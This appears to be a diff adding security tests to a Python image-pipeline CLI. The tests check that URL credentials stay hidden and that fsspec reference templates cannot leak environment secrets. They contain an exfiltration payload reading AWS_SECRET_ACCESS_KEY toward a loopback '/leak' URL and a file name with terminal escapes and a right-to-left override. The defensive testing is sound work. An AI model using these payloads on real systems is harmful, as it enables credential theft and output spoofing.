@@ -13,6 +13,7 @@ from click.testing import CliRunner, Result
 from PIL import Image
 
 from pipeline.cli.main import cli
+from tests.data.loopback import serve
 
 Run = Callable[..., Result]
 EVIL = "evil\x1b[31m\nverdict ok\u202egpj.png"
@@ -193,3 +194,45 @@ def test_data_itself_is_never_overwritten(run: Run) -> None:
     assert done.exit_code == 2
     assert "--fix table.csv: this is DATA itself" in done.stderr
     assert Path("table.csv").read_text() == "path,label\n"
+
+
+@pytest.mark.heavy
+def test_secrets_of_urls_are_shown_nowhere_and_private_machines_are_named_first(run: Run) -> None:
+    pictures = {
+        f"/{number}.png": path.read_bytes() for number, path in enumerate(sorted(Path("clean").glob("*/*.png")))
+    }
+    with serve({f"{name}?sig=SECRET": content for name, content in pictures.items()}) as address:
+        rows = [
+            (address.replace("//", "//me:PASSWORD@") + f"{name}?sig=SECRET", number % 2)
+            for number, name in enumerate(pictures)
+        ]
+        Path("urls.csv").write_text("path,label\n" + "".join(f"{path},{label}\n" for path, label in rows))
+        refused = run("check", "urls.csv")
+        assert refused.exit_code == 3
+        assert "refused         40 (left out)" in refused.stdout
+        assert "if you trust it, add --allow-host 127.0.0.1" in refused.stderr
+        done = run(
+            "check", "urls.csv", "--allow-host", "127.0.0.1", "--html", "urls.html", "--json", "--fix", "fixed.csv"
+        )
+    assert json.loads(done.stdout)["files"]["used"] == 40
+    assert "pipeline search fixed.csv --allow-host 127.0.0.1" in done.stderr
+    shown = [refused.output, done.output, Path("urls.html").read_text()]
+    assert not any(secret in text for text in shown for secret in ("PASSWORD", "SECRET"))
+    assert Path("fixed.csv").read_text().count("me:PASSWORD@") == 40
+    for index in Path("mlruns/cache/images").glob("*/index.parquet"):
+        assert b"SECRET" not in index.read_bytes()
+
+
+@pytest.mark.heavy
+def test_a_table_cannot_send_secrets_of_the_environment_away(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A chain of fsspec expands templates, which reach os.environ; neither the parent nor a child follows it."""
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "TOPSECRET")
+    with serve({}) as address:
+        template = "{{t.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}}"
+        reference = {"version": 1, "templates": {"t": "{{x}}"}, "refs": {"x": [f"{address}/leak?k={template}"]}}
+        Path("ref.json").write_text(json.dumps(reference))
+        for place in (f"reference://x::{address}/ref.json", f"reference://x::file://{Path('ref.json').absolute()}"):
+            Path("evil.csv").write_text(f'path,label\nclean/cat/000.png,cat\n"{place}",dog\n')
+            done = run("check", "evil.csv", "--allow-host", "127.0.0.1")
+            assert done.exit_code == 3
+            assert "evil.csv, row 2: reference://x::" in done.stderr
